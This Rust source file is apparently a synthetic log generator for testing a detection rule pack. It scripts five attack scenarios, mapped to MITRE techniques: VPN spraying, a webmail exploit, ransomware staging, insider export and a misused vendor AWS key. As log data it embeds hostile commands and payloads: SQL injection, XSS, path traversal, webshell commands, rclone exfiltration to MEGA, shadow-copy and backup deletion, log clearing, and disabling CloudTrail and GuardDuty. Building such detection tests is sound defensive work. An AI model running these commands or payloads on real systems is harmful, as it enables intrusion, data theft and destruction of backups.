//! The attack scenarios. Each registers its steps (with the detections expected to find them)
//! and pushes the malicious records.

use chrono::{DateTime, Duration, Utc};
use serde_json::json;

use crate::background::{
    self, access, at_hour, cloudtrail, logon, proc_create, vpn, win, ws, STAFF, VENDOR_KEY,
};
use crate::{Builder, LogFile, Scenario};

/// Rule ids of the Mamori pack (`rules/`) and of the baseline analytics.
pub mod ids {
    pub const VPN_SPRAY: &str = "5b0f3c1e-2d6a-4b8e-9f1a-7c3d2e1b0a04";
    pub const VPN_BRUTE: &str = "5b0f3c1e-2d6a-4b8e-9f1a-7c3d2e1b0a03";
    pub const VPN_SUCCESS_AFTER_SPRAY: &str = "5b0f3c1e-2d6a-4b8e-9f1a-7c3d2e1b0a05";
    pub const EXPLICIT_CREDS: &str = "3a9c1d20-5e6f-4a7b-8c9d-0e1f2a3b4c01";
    pub const MANY_HOSTS: &str = "3a9c1d20-5e6f-4a7b-8c9d-0e1f2a3b4c02";
    pub const PSEXEC: &str = "3a9c1d20-5e6f-4a7b-8c9d-0e1f2a3b4c03";
    pub const REMOTE_SHELL: &str = "3a9c1d20-5e6f-4a7b-8c9d-0e1f2a3b4c04";
    pub const NEW_SERVICE: &str = "3a9c1d20-5e6f-4a7b-8c9d-0e1f2a3b4c05";
    pub const SCHED_TASK: &str = "3a9c1d20-5e6f-4a7b-8c9d-0e1f2a3b4c06";
    pub const EXFIL_TOOL: &str = "3a9c1d20-5e6f-4a7b-8c9d-0e1f2a3b4c07";
    pub const ADMIN_GROUP: &str = "8bec7429-718e-49a1-a57f-21e0c708c773";
    pub const SHADOW_DELETE: &str = "e4ba325d-738a-4a0e-896d-e7c85289e9ba";
    pub const SECURITY_LOG_CLEARED: &str = "2b8d5a4e-461e-4d52-bb4c-dc6931371d86";
    pub const LOG_CLEARED: &str = "2b8d5a4e-461e-4d52-bb4c-dc6931371d87";
    pub const SCANNER_UA: &str = "0013aa45-4b55-43af-8d33-b462f621f304";
    pub const SCAN_BURST: &str = "7d1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e06";
    pub const SQLI: &str = "09fd6eaa-b3a2-4148-ba4c-4adb6b43191f";
    pub const XSS: &str = "6415f6a5-3d3a-4749-8b38-22cec4ce0430";
    pub const TRAVERSAL: &str = "1241c4c3-8af4-492d-882f-28543d88fe20";
    pub const WEBMAIL_EXPLOIT: &str = "7d1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e05";
    pub const ERROR_BURST: &str = "7d1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e07";
    pub const WEBSHELL_UPLOAD: &str = "7d1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e03";
    pub const WEBSHELL_SCRIPT: &str = "7d1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e01";
    pub const WEBSHELL_CMD: &str = "7d1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e02";
    pub const ARCHIVE_DOWNLOAD: &str = "7d1e2f30-1a2b-4c3d-8e9f-0a1b2c3d4e04";
    pub const TRAIL_DISABLED: &str = "9e8d7c6b-1111-4a2b-9c3d-4e5f6a7b8c01";
    pub const IAM_CREATED: &str = "9e8d7c6b-1111-4a2b-9c3d-4e5f6a7b8c02";
    pub const BULK_GET: &str = "9e8d7c6b-1111-4a2b-9c3d-4e5f6a7b8c03";
    pub const BULK_LIST: &str = "9e8d7c6b-1111-4a2b-9c3d-4e5f6a7b8c04";
    pub const A_DEPARTED: &str = "mamori-analytics-departed-identity";
    pub const A_KEY_AGE: &str = "mamori-analytics-key-age";
    pub const A_FIRST_ADDRESS: &str = "mamori-analytics-first-seen-address";
    pub const A_FIRST_HOST: &str = "mamori-analytics-first-seen-host";
    pub const A_VOLUME: &str = "mamori-analytics-volume";
    pub const A_OFF_HOURS: &str = "mamori-analytics-off-hours";
    pub const A_NEW_COUNTRY: &str = "mamori-analytics-new-country";
}

use ids::*;

pub(crate) fn generate(b: &mut Builder) {
    match b.scenario {
        Scenario::VpnIntrusion => vpn_intrusion(b),
        Scenario::WebmailExploit => webmail_exploit(b),
        Scenario::Ransomware => ransomware(b),
        Scenario::InsiderExport => insider_export(b),
        Scenario::VendorKey => vendor_key(b),
    }
}

/// Attack night: 01:00 JST on the third-to-last day.
fn attack_time(b: &Builder) -> DateTime<Utc> {
    at_hour(b.day_start(b.cfg.days - 3), 16)
}

fn secs(n: i64) -> Duration {
    Duration::seconds(n)
}

fn vpn_intrusion(b: &mut Builder) {
    // 89.160.20.112/28 is Linköping, SE in the MaxMind test databases.
    let attacker = "89.160.20.115";
    let victim = "yamada";
    let admin = "adm-ito";
    let mut t = attack_time(b) + secs(b.rng.range(0, 600) as i64);
    let spray = b.step(
        "vpn-password-spray",
        "one address tries two common passwords against twelve VPN accounts",
        "T1110.003",
        &[VPN_SPRAY, VPN_BRUTE],
        &[attacker],
    );
    for round in 0..2 {
        for p in STAFF {
            if round == 1 && p.user == victim {
                continue;
            }
            t += secs(b.rng.range(15, 40) as i64);
            let pid = b.next_pid();
            b.bad(
                spray,
                t,
                LogFile::VpnLog,
                vpn(b.vpn_format(), t, pid, p.user, attacker, false),
            );
        }
    }
    let login = b.step(
        "vpn-login-guessed-password",
        "the sprayed password works for yamada",
        "T1133",
        &[VPN_SUCCESS_AFTER_SPRAY, A_FIRST_ADDRESS, A_OFF_HOURS],
        &[attacker, victim],
    );
    t += secs(50);
    let pid = b.next_pid();
    b.bad(
        login,
        t,
        LogFile::VpnLog,
        vpn(b.vpn_format(), t, pid, victim, attacker, true),
    );

    let host = ws(victim);
    let creds = b.step(
        "explicit-credentials",
        "with a dumped admin password the intruder runs commands as adm-ito against FS01",
        "T1078.002",
        &[EXPLICIT_CREDS],
        &[admin],
    );
    t += secs(900);
    b.bad(
        creds,
        t,
        LogFile::Windows,
        win(
            t,
            4648,
            &host,
            json!({"SubjectUserName": victim, "TargetUserName": admin, "TargetServerName": "FS01.corp.example",
                   "ProcessName": "C:\\Windows\\System32\\net.exe", "IpAddress": "-"}),
        ),
    );
    let lateral = b.step(
        "lateral-movement",
        "adm-ito authenticates to six servers within minutes",
        "T1021.002",
        &[MANY_HOSTS, A_FIRST_HOST],
        &[admin],
    );
    for srv in ["FS01", "DB01", "APP01", "BK01", "HR01", "DC01"] {
        t += secs(b.rng.range(20, 90) as i64);
        let c = format!("{srv}.corp.example");
        b.bad(
            lateral,
            t,
            LogFile::Windows,
            logon(
                t,
                &c,
                admin,
                3,
                &crate::background_company::pc_ip(b, victim, t),
            ),
        );
    }
    let psexec = b.step(
        "psexec",
        "PsExec runs a shell on FS01",
        "T1569.002",
        &[PSEXEC, REMOTE_SHELL, NEW_SERVICE],
        &[],
    );
    t += secs(60);
    b.bad(
        psexec,
        t,
        LogFile::Windows,
        win(t, 7045, "FS01.corp.example", json!({"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"})),
    );
    t += secs(2);
    b.bad(
        psexec,
        t,
        LogFile::Windows,
        proc_create(
            t,
            "FS01.corp.example",
            admin,
            r"C:\Windows\System32\cmd.exe",
            "cmd.exe",
            r"C:\Windows\PSEXESVC.exe",
        ),
    );
    let wmi = b.step(
        "wmi-remote-execution",
        "wmic process call create on DB01 starts PowerShell",
        "T1047",
        &[REMOTE_SHELL],
        &[],
    );
    t += secs(300);
    b.bad(
        wmi,
        t,
        LogFile::Windows,
        proc_create(
            t,
            "DB01.corp.example",
            admin,
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -nop -w hidden -enc SQBFAFgA",
            r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        ),
    );
    let da = b.step(
        "domain-admin",
        "the intruder adds adm-ito to Domain Admins",
        "T1098",
        &[ADMIN_GROUP],
        &[],
    );
    t += secs(120);
    b.bad(
        da,
        t,
        LogFile::Windows,
        win(t, 4728, "DC01.corp.example", json!({"TargetUserName": "Domain Admins", "MemberName": "CN=adm-ito,OU=Admins,DC=corp,DC=example", "SubjectUserName": admin})),
    );
    let exfil = b.step(
        "exfiltration",
        "rclone copies the file share to MEGA",
        "T1567.002",
        &[EXFIL_TOOL],
        &[],
    );
    t += secs(1800);
    b.bad(
        exfil,
        t,
        LogFile::Windows,
        proc_create(
            t,
            "FS01.corp.example",
            admin,
            r"C:\ProgramData\rclone.exe",
            r"C:\ProgramData\rclone.exe copy \\FS01\share mega:backup --transfers 8",
            r"C:\Windows\System32\cmd.exe",
        ),
    );
}

fn webmail_exploit(b: &mut Builder) {
    let attacker = "185.220.101.47";
    let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
    let nuclei = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))";
    let mut t = attack_time(b);
    let req = |b: &mut Builder,
               step: usize,
               t: DateTime<Utc>,
               method: &str,
               url: &str,
               status: u16,
               bytes: u64,
               ua: &str| {
        b.bad(
            step,
            t,
            LogFile::AccessLog,
            access(t, attacker, "-", method, url, status, bytes, ua),
        );
    };
    let scan = b.step(
        "scan",
        "nuclei probes sixty paths",
        "T1595.002",
        &[SCANNER_UA, SCAN_BURST],
        &[attacker],
    );
    for i in 0..60 {
        t += secs(2);
        let path = [
            "/.env",
            "/wp-login.php",
            "/.git/config",
            "/admin/",
            "/phpmyadmin/",
            "/server-status",
        ][i % 6];
        req(
            b,
            scan,
            t,
            "GET",
            &format!("{path}?n={i}"),
            404,
            196,
            nuclei,
        );
    }
    let sqli = b.step(
        "sql-injection",
        "UNION-based SQL injection on the product page",
        "T1190",
        &[SQLI],
        &[attacker],
    );
    for q in [
        "1%27%20UNION%20SELECT%20null,table_name%20FROM%20information_schema.tables--",
        "1%20OR%201=1--",
    ] {
        t += secs(5);
        req(
            b,
            sqli,
            t,
            "GET",
            &format!("/products?id={q}"),
            200,
            3100,
            ua,
        );
    }
    let xss = b.step(
        "xss",
        "reflected XSS probe on search",
        "T1189",
        &[XSS],
        &[attacker],
    );
    t += secs(5);
    req(
        b,
        xss,
        t,
        "GET",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        200,
        2500,
        ua,
    );
    let trav = b.step(
        "path-traversal",
        "path traversal through the webmail download handler",
        "T1190",
        &[TRAVERSAL],
        &[attacker],
    );
    t += secs(5);
    req(
        b,
        trav,
        t,
        "GET",
        "/am_bin/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
        403,
        210,
        ua,
    );
    let exploit = b.step(
        "webmail-exploit",
        "overflow payload against the Active!mail-style login CGI, crashing it repeatedly",
        "T1190",
        &[WEBMAIL_EXPLOIT, ERROR_BURST],
        &[attacker],
    );
    let pad = "A".repeat(600);
    for _ in 0..6 {
        t += secs(3);
        req(
            b,
            exploit,
            t,
            "POST",
            &format!("/am_bin/amlogin?lang={pad}"),
            500,
            0,
            ua,
        );
    }
    let upload = b.step(
        "webshell-upload",
        "a PHP webshell uploaded as an attachment",
        "T1505.003",
        &[WEBSHELL_UPLOAD],
        &[attacker],
    );
    t += secs(30);
    req(
        b,
        upload,
        t,
        "POST",
        "/am_bin/upload?filename=mail_tmpl.php",
        200,
        512,
        ua,
    );
    let shell = b.step(
        "webshell-use",
        "commands run through the webshell",
        "T1505.003",
        &[WEBSHELL_SCRIPT, WEBSHELL_CMD],
        &[attacker],
    );
    for c in ["whoami", "id", "uname%20-a", "ls%20-la%20/var/spool/mail"] {
        t += secs(b.rng.range(5, 40) as i64);
        req(
            b,
            shell,
            t,
            "GET",
            &format!("/am_bin/upload/files/mail_tmpl.php?cmd={c}"),
            200,
            120,
            ua,
        );
    }
    let theft = b.step(
        "mailbox-theft",
        "every mailbox packed into an archive and downloaded",
        "T1114.001",
        &[ARCHIVE_DOWNLOAD, WEBSHELL_CMD],
        &[attacker],
    );
    t += secs(60);
    req(b, theft, t, "GET", "/am_bin/upload/files/mail_tmpl.php?cmd=tar%20czf%20/var/www/am/upload/files/m.tgz%20/var/spool/mail", 200, 40, ua);
    t += secs(90);
    req(
        b,
        theft,
        t,
        "GET",
        "/am_bin/upload/files/m.tgz",
        200,
        2_843_112_940,
        ua,
    );
}

fn ransomware(b: &mut Builder) {
    // 175.16.199.0/24 is Changchun, CN in the MaxMind test databases.
    let attacker = "175.16.199.18";
    let victim = "sato";
    let mut t = attack_time(b) + secs(3600);
    let login = b.step(
        "vpn-login-phished-password",
        "a phished password used on the VPN at 02:00 JST from an address sato never used",
        "T1078",
        &[A_FIRST_ADDRESS, A_OFF_HOURS, A_NEW_COUNTRY],
        &[attacker, victim],
    );
    let pid = b.next_pid();
    b.bad(
        login,
        t,
        LogFile::VpnLog,
        vpn(b.vpn_format(), t, pid, victim, attacker, true),
    );
    let creds = b.step(
        "explicit-credentials",
        "runas with a stolen administrator password",
        "T1078.002",
        &[EXPLICIT_CREDS],
        &[],
    );
    t += secs(600);
    b.bad(
        creds,
        t,
        LogFile::Windows,
        win(t, 4648, &ws(victim), json!({"SubjectUserName": victim, "TargetUserName": "Administrator", "TargetServerName": "FS01.corp.example", "ProcessName": "C:\\Windows\\System32\\runas.exe"})),
    );
    let group = b.step(
        "admin-group",
        "the phished account is made a local administrator on FS01",
        "T1098",
        &[ADMIN_GROUP],
        &[],
    );
    t += secs(60);
    b.bad(
        group,
        t,
        LogFile::Windows,
        win(t, 4732, "FS01.corp.example", json!({"TargetUserName": "Administrators", "MemberName": "CN=sato,OU=Staff,DC=corp,DC=example", "SubjectUserName": "Administrator"})),
    );
    let task = b.step(
        "scheduled-task",
        "a scheduled task to run the encryptor at 03:00",
        "T1053.005",
        &[SCHED_TASK],
        &[],
    );
    t += secs(120);
    b.bad(
        task,
        t,
        LogFile::Windows,
        win(t, 4698, "FS01.corp.example", json!({"SubjectUserName": "Administrator", "TaskName": "\\Microsoft\\Windows\\Maintenance\\SysUpd", "TaskContent": "<Exec><Command>C:\\ProgramData\\upd.exe</Command></Exec>"})),
    );
    let svc = b.step(
        "new-service",
        "a service that starts the encryptor as SYSTEM",
        "T1543.003",
        &[NEW_SERVICE, PSEXEC],
        &[],
    );
    t += secs(30);
    b.bad(
        svc,
        t,
        LogFile::Windows,
        win(t, 7045, "FS01.corp.example", json!({"ServiceName": "SysUpdSvc", "ImagePath": "cmd.exe /c C:\\ProgramData\\upd.exe", "ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem"})),
    );
    let shadow = b.step(
        "backup-deletion",
        "shadow copies, backup catalog and recovery removed before encrypting",
        "T1490",
        &[SHADOW_DELETE],
        &[],
    );
    for cmd in [
        (
            r"C:\Windows\System32\vssadmin.exe",
            "vssadmin.exe delete shadows /all /quiet",
        ),
        (
            r"C:\Windows\System32\wbem\WMIC.exe",
            "wmic shadowcopy delete /nointeractive",
        ),
        (
            r"C:\Windows\System32\wbadmin.exe",
            "wbadmin delete catalog -quiet",
        ),
        (
            r"C:\Windows\System32\bcdedit.exe",
            "bcdedit /set {default} recoveryenabled No",
        ),
    ] {
        t += secs(3);
        b.bad(
            shadow,
            t,
            LogFile::Windows,
            proc_create(
                t,
                "FS01.corp.example",
                "Administrator",
                cmd.0,
                cmd.1,
                r"C:\Windows\System32\cmd.exe",
            ),
        );
    }
    let clear = b.step(
        "log-clearing",
        "Security and System logs cleared",
        "T1070.001",
        &[SECURITY_LOG_CLEARED, LOG_CLEARED],
        &[],
    );
    t += secs(20);
    b.bad(
        clear,
        t,
        LogFile::Windows,
        proc_create(
            t,
            "FS01.corp.example",
            "Administrator",
            r"C:\Windows\System32\wevtutil.exe",
            "wevtutil.exe cl System",
            r"C:\Windows\System32\cmd.exe",
        ),
    );
    t += secs(2);
    b.bad(
        clear,
        t,
        LogFile::Windows,
        win(
            t,
            1102,
            "FS01.corp.example",
            json!({"SubjectUserName": "Administrator"}),
        ),
    );
}

fn insider_export(b: &mut Builder) {
    let who = STAFF.iter().find(|p| p.user == "kobayashi");
    let Some(who) = who else { return };
    let days = b.cfg.days;
    let first = days / 2;
    let end_of_contract = days - 5;
    for day in first..days {
        let step = b.step(
            "bulk-export",
            "the contractor exports five hundred customer rows at a time, after hours, every day",
            "T1530",
            &[A_VOLUME, A_OFF_HOURS, A_DEPARTED],
            &[who.user],
        );
        let n = b.rng.range(3, 6);
        let mut t = at_hour(b.day_start(day), 12) + secs(b.rng.range(0, 1800) as i64);
        for _ in 0..n {
            t += secs(b.rng.range(120, 900) as i64);
            let rows = 500;
            let bytes = rows * 220 + b.rng.range(0, 400);
            let line = access(
                t,
                background::OFFICE_IP,
                who.user,
                "GET",
                &format!("/crm/customers/export?rows={rows}&format=csv&offset={}", b.rng.range(0, 9_000_000)),
                200,
                bytes,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
            );
            b.bad(step, t, LogFile::AccessLog, line);
        }
        if day >= end_of_contract {
            // After the contract ended the account should be dead; it still works.
            if let Some(s) = b.steps.get_mut(step) {
                s.step = "export-after-contract-end";
                s.detect = vec![A_DEPARTED];
            }
        }
    }
}

fn vendor_key(b: &mut Builder) {
    let attacker = "5.188.62.140";
    let user = "vendor-acme";
    let ua = "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.kali.2024";
    let mut t = attack_time(b);
    let rec = |b: &mut Builder,
               step: usize,
               t: DateTime<Utc>,
               src: &str,
               name: &str,
               params: serde_json::Value,
               extra: serde_json::Value| {
        let r = cloudtrail(
            b, t, src, name, VENDOR_KEY, user, attacker, ua, params, extra,
        );
        b.bad(step, t, LogFile::CloudTrail, r);
    };
    let first = b.step(
        "forgotten-key-used",
        "the former vendor's key, never revoked, is used from an unknown address",
        "T1078.004",
        &[A_DEPARTED, A_KEY_AGE, A_FIRST_ADDRESS],
        &[VENDOR_KEY],
    );
    rec(
        b,
        first,
        t,
        "sts.amazonaws.com",
        "GetCallerIdentity",
        json!({}),
        json!({}),
    );
    let disc = b.step(
        "s3-discovery",
        "buckets and objects listed",
        "T1619",
        &[BULK_LIST],
        &[VENDOR_KEY],
    );
    t += secs(30);
    rec(
        b,
        disc,
        t,
        "s3.amazonaws.com",
        "ListBuckets",
        json!({}),
        json!({}),
    );
    for i in 0..24 {
        t += secs(5);
        rec(
            b,
            disc,
            t,
            "s3.amazonaws.com",
            "ListObjectsV2",
            json!({"bucketName": "customer-docs", "prefix": format!("invoices/{i:02}")}),
            json!({}),
        );
    }
    let bulk = b.step(
        "bulk-download",
        "four hundred objects downloaded in minutes",
        "T1530",
        &[BULK_GET],
        &[VENDOR_KEY],
    );
    for _ in 0..400 {
        t += Duration::milliseconds(b.rng.range(300, 1200) as i64);
        let n = b.rng.range(1, 90000);
        let bytes = b.rng.range(20_000, 200_000);
        rec(
            b,
            bulk,
            t,
            "s3.amazonaws.com",
            "GetObject",
            json!({"bucketName": "customer-docs", "key": format!("invoices/{n}.pdf")}),
            json!({"additionalEventData": {"bytesTransferredOut": bytes}}),
        );
    }
    let evade = b.step(
        "disable-logging",
        "CloudTrail stopped and GuardDuty detector deleted",
        "T1562.008",
        &[TRAIL_DISABLED],
        &[VENDOR_KEY],
    );
    t += secs(40);
    rec(
        b,
        evade,
        t,
        "guardduty.amazonaws.com",
        "DeleteDetector",
        json!({"detectorId": "12abc34d567e8fa901bc2d34e56789f0"}),
        json!({}),
    );
    t += secs(10);
    rec(
        b,
        evade,
        t,
        "cloudtrail.amazonaws.com",
        "StopLogging",
        json!({"name": "arn:aws:cloudtrail:ap-northeast-1:123456789012:trail/main"}),
        json!({}),
    );
    let persist = b.step(
        "new-iam-user",
        "a backdoor IAM user with its own access key",
        "T1136.003",
        &[IAM_CREATED],
        &[VENDOR_KEY],
    );
    t += secs(20);
    rec(
        b,
        persist,
        t,
        "iam.amazonaws.com",
        "CreateUser",
        json!({"userName": "backup-svc"}),
        json!({}),
    );
    t += secs(5);
    rec(
        b,
        persist,
        t,
        "iam.amazonaws.com",
        "CreateAccessKey",
        json!({"userName": "backup-svc"}),
        json!({}),
    );
}
